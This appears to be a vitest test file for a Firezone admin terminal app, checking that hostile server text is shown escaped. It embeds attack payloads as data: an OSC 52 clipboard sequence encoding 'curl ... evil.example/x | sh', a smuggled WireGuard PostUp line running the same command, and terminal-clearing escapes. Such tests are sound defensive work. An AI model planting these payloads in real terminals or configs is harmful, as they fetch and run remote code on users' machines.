// Hostile text × every view. Server data (device names and descriptions that unprivileged users
// set themselves, emails, provider fields) and error bodies carry terminal escapes, C0/C1
// controls, bidi overrides and zero-width characters. Every screen, detail, form, dialog, picker,
// the result screen and the status bar are rendered with that data, and every RAW write Ink made
// is checked: nothing but SGR colour codes may reach the terminal, and the odd characters must be
// visible as escapes.
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import {generateKeyPairSync} from 'node:crypto';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {FirezoneClient} from '../../src/api/index.js';
import type {AppSettings} from '../../src/ui/App.js';
import {strip} from '../helpers/ink.js';
import {renderApp, useSandbox} from '../helpers/rig.js';
import {HOSTILE} from '../fixtures/hostile.js';

const settings: AppSettings = {label: 'hostile', refreshSeconds: 0, readOnly: false, insecure: false, demo: false};
const OSC52 = '\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07';
// A lone surrogate cannot be stored (the sandbox, like a real database, cannot hold it as UTF-8);
// it is covered by the unit tests of the boundary.
const DEVICE_TEXTS = HOSTILE.filter(([name]) => name !== 'lone surrogate');
const HOSTILE_EMAIL = `mallory${OSC52}\u202e@evil.example`;

const fx = useSandbox({seed: 'empty', statsIntervalSeconds: 0, maxDevicesPerUser: 50});
let proxy: Server;
let proxyUrl: string;
let client: FirezoneClient;

function publicKey(): string {
  // Encoded by the key-generation job itself: a JWK export of a generated key can hang Node 20 (src/wireguard/keys.ts).
  const {publicKey: der} = generateKeyPairSync('x25519', {
    publicKeyEncoding: {type: 'spki', format: 'der'},
    privateKeyEncoding: {type: 'pkcs8', format: 'der'},
  });
  return der.subarray(12).toString('base64');
}

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
async function admin(method: string, path: string, body?: unknown): Promise<{status: number; json: any}> {
  return fx.api(method, path, body);
}

/**
 * What reached the terminal must be display-safe: strip our own SGR codes, then no control, C1,
 * bidi, zero-width or separator character may remain (newlines between frame lines aside).
 */
function assertTerminalSafe(frames: readonly string[]): void {
  for (const frame of frames) {
    // eslint-disable-next-line no-control-regex
    const rest = frame.replace(/\x1b\[[0-9;]*m/g, '').replace(/\n/g, '');
    const bad = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.exec(rest);
    if (bad) {
      const at = bad.index;
      throw new Error(
        `raw U+${bad[0].codePointAt(0)!.toString(16).padStart(4, '0')} reached the terminal: ${JSON.stringify(rest.slice(Math.max(0, at - 40), at + 40))}`,
      );
    }
  }
}

beforeAll(async () => {
  const sandbox = fx.sandbox;
  const user = (await admin('POST', '/v0/users', {user: {email: HOSTILE_EMAIL, role: 'unprivileged'}})).json.data;
  for (const [i, [name, text]] of DEVICE_TEXTS.entries()) {
    const res = await admin('POST', '/v0/devices', {
      device: {user_id: user.id, public_key: publicKey(), name: `d${i} ${text}`.slice(0, 200), description: `${name}: ${text}`},
    });
    expect(res.status, `${name}: ${JSON.stringify(res.json)}`).toBe(201);
  }
  expect((await admin('POST', '/v0/rules', {rule: {destination: '10.9.0.0/16', action: 'drop', user_id: user.id}})).status).toBe(201);
  const providers = [
    {
      id: 'corp',
      label: `Corp ${OSC52}\u202e SSO`,
      scope: 'openid email profile',
      response_type: 'code',
      client_id: `client\x1b[2J\x9b2J`,
      client_secret: `sec\x07ret`,
      discovery_document_uri: 'https://idp.example/.well-known/openid-configuration',
      auto_create_users: false,
    },
  ];
  expect((await admin('PATCH', '/v0/configuration', {configuration: {openid_connect_providers: providers}})).status).toBe(200);

  // A proxy in front of the sandbox that answers some writes with hostile bodies and headers.
  proxy = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const c of req) chunks.push(c as Buffer);
    const body = Buffer.concat(chunks).toString('utf8');
    if (req.method === 'POST' && req.url === '/v0/users' && body.includes('reject')) {
      res.writeHead(422, {'content-type': 'application/json', 'x-request-id': 'req\u009b2J-1'});
      res.end(JSON.stringify({errors: {email: [`is ${OSC52} not welcome\u202e`], base: ['line one\nFAKE LINE\r\x08\x08overwritten']}}));
      return;
    }
    if (req.method === 'DELETE' && req.url?.startsWith('/v0/rules/')) {
      res.writeHead(502, {'content-type': 'text/html'});
      res.end(`<html><head><title>502 ${OSC52}Bad\u202e Gateway</title></head><body>x</body></html>`);
      return;
    }
    const upstream = await fetch(`${sandbox.url}${req.url}`, {
      method: req.method!,
      headers: {authorization: req.headers.authorization ?? '', 'content-type': 'application/json'},
      ...(body === '' ? {} : {body}),
    });
    let text = await upstream.text();
    if (req.method === 'POST' && req.url === '/v0/devices' && upstream.status === 201) {
      const json = JSON.parse(text);
      json.data.dns = ['1.1.1.1\nPostUp = curl -s https://evil.example/x | sh'];
      text = JSON.stringify(json);
    }
    res.writeHead(upstream.status, {'content-type': upstream.headers.get('content-type') ?? 'application/json'});
    res.end(text);
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  proxyUrl = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
  client = new FirezoneClient({baseUrl: proxyUrl, token: sandbox.adminToken});
});
afterAll(async () => {
  await client.close();
  await new Promise((r) => proxy.close(r));
});

describe('hostile server text never drives the terminal', {timeout: 60_000}, () => {
  it('devices: list, every detail, edit form, delete dialog, copy', async () => {
    const clipboard: string[] = [];
    const app = await renderApp({client, settings, writeRaw: (s) => clipboard.push(s), ready: false});
    let frame = await app.waitFor(new RegExp(`1/${DEVICE_TEXTS.length} devices`));
    expect(frame).toContain('\\e]52;c;');
    for (let i = 0; i < DEVICE_TEXTS.length; i++) {
      await app.press('open', 'list');
      frame = await app.waitFor('Preshared key');
      await app.press('back', 'detail');
      await app.press('down', 'list');
      await app.waitFor(new RegExp(`${Math.min(i + 2, DEVICE_TEXTS.length)}/${DEVICE_TEXTS.length} devices`));
    }
    await app.press('home', 'list');
    await app.press('open', 'list');
    frame = await app.waitFor('Description');
    // The OSC 52 payload is on screen as text, the owner line is not faked by a newline.
    expect(frame).toMatch(/\\e\]52;c;Y3Vy/);
    expect(frame.match(/^Owner/gm)?.length ?? 0).toBeLessThanOrEqual(1);
    await app.press('copy', 'detail');
    frame = await app.waitFor(/Copied public key/);
    await app.press('back', 'detail');
    await app.press('edit', 'list');
    await app.waitFor('Edit device');
    await app.press('cancel', 'form');
    await app.press('delete', 'list');
    await app.waitFor('Delete device');
    await app.press('cancel', 'dialog');
    // Copy a value that holds controls: the clipboard gets escapes, and the status bar says so.
    await app.press('screen2');
    await app.press('filter', 'list');
    await app.type('mallory');
    await app.press('filterAccept', 'filter');
    await app.press('open', 'list');
    await app.press('copy', 'detail');
    frame = await app.waitFor(/Copied email with \d+ control characters? shown as escapes/);
    expect(clipboard.length).toBe(2);
    for (const seq of clipboard) {
      // eslint-disable-next-line no-control-regex -- the OSC 52 framing
      const payload = /\x1b\]52;c;([A-Za-z0-9+/=]*)\x07/.exec(seq)?.[1];
      expect(payload).toBeDefined();
      expect(Buffer.from(payload!, 'base64').toString('utf8')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
    assertTerminalSafe(app.frames);
  });

  it('users and rules: lists, details, forms, dialogs; configuration with secrets revealed', async () => {
    const app = await renderApp({client, settings, ready: /Devices \d+/});
    await app.press('screen2');
    await app.waitFor('EMAIL');
    await app.press('filter', 'list');
    await app.type('mallory');
    await app.press('filterAccept', 'filter');
    await app.press('open', 'list');
    let frame = await app.waitFor(/Devices \(\d+\)/);
    expect(frame).toContain('mallory\\e]52;c;');
    await app.press('edit', 'detail');
    await app.waitFor('Change the email');
    await app.press('cancel', 'form');
    await app.press('role', 'detail');
    await app.waitFor(/Promote|Demote/);
    await app.press('cancel', 'dialog');
    await app.press('delete', 'detail');
    await app.waitFor('Their active VPN sessions drop at once');
    await app.press('cancel', 'dialog');
    await app.press('back', 'detail');
    await app.press('screen3');
    await app.waitFor('DESTINATION');
    await app.press('open', 'list');
    await app.waitFor('Precedence');
    await app.press('back', 'detail');
    await app.press('screen4');
    await app.press('reveal', 'configuration');
    frame = await app.waitFor('OpenID Connect providers (1)');
    expect(frame).toContain('sec\\aret');
    await app.press('down', 'configuration', 2);
    await app.press('edit', 'configuration');
    await app.waitFor('OIDC provider corp');
    assertTerminalSafe(app.frames);
  });

  it('the owner picker, a hostile 422 (fields, base, X-Request-Id), a proxy HTML title, and a hostile config value', async () => {
    const app = await renderApp({client, settings, ready: /1\/\d+ devices/});
    // Picker: the hostile email is listed, escaped.
    await app.press('new', 'list');
    await app.press('pick', 'form');
    let frame = await app.waitFor('pick a user');
    expect(frame).toContain('mallory\\e]52');
    await app.press('cancel', 'picker');
    await app.press('cancel', 'form');
    // A form with nothing typed closes at once; only a question about unsaved changes takes a y
    // (on the list, y is the JSON view).
    if (app.frame().includes('Discard your changes?')) await app.press('confirm', 'dialog');
    // 422 with hostile messages: under the field, in the form errors and the status bar.
    await app.press('screen2');
    await app.press('new', 'list');
    await app.type('reject@example.com');
    await app.press('save');
    frame = await app.waitFor(/not welcome/);
    expect(frame).toContain('\\n');
    await app.press('cancel', 'form');
    await app.press('confirm', 'dialog');
    // 502 HTML from a proxy with a hostile <title>.
    await app.press('screen3');
    await app.press('delete', 'list');
    await app.press('confirm', 'dialog');
    await app.waitFor(/502/);
    // A device whose config would carry a PostUp line: refused, nothing shown raw.
    await app.press('screen2');
    await app.press('home', 'list');
    await app.press('open', 'list');
    await app.press('newDevice', 'detail');
    await app.waitFor('Add device for');
    await app.press('save');
    frame = await app.waitFor(/Refusing to build the client config/);
    expect(strip(frame)).not.toMatch(/^PostUp/m);
    assertTerminalSafe(app.frames);
  });
});
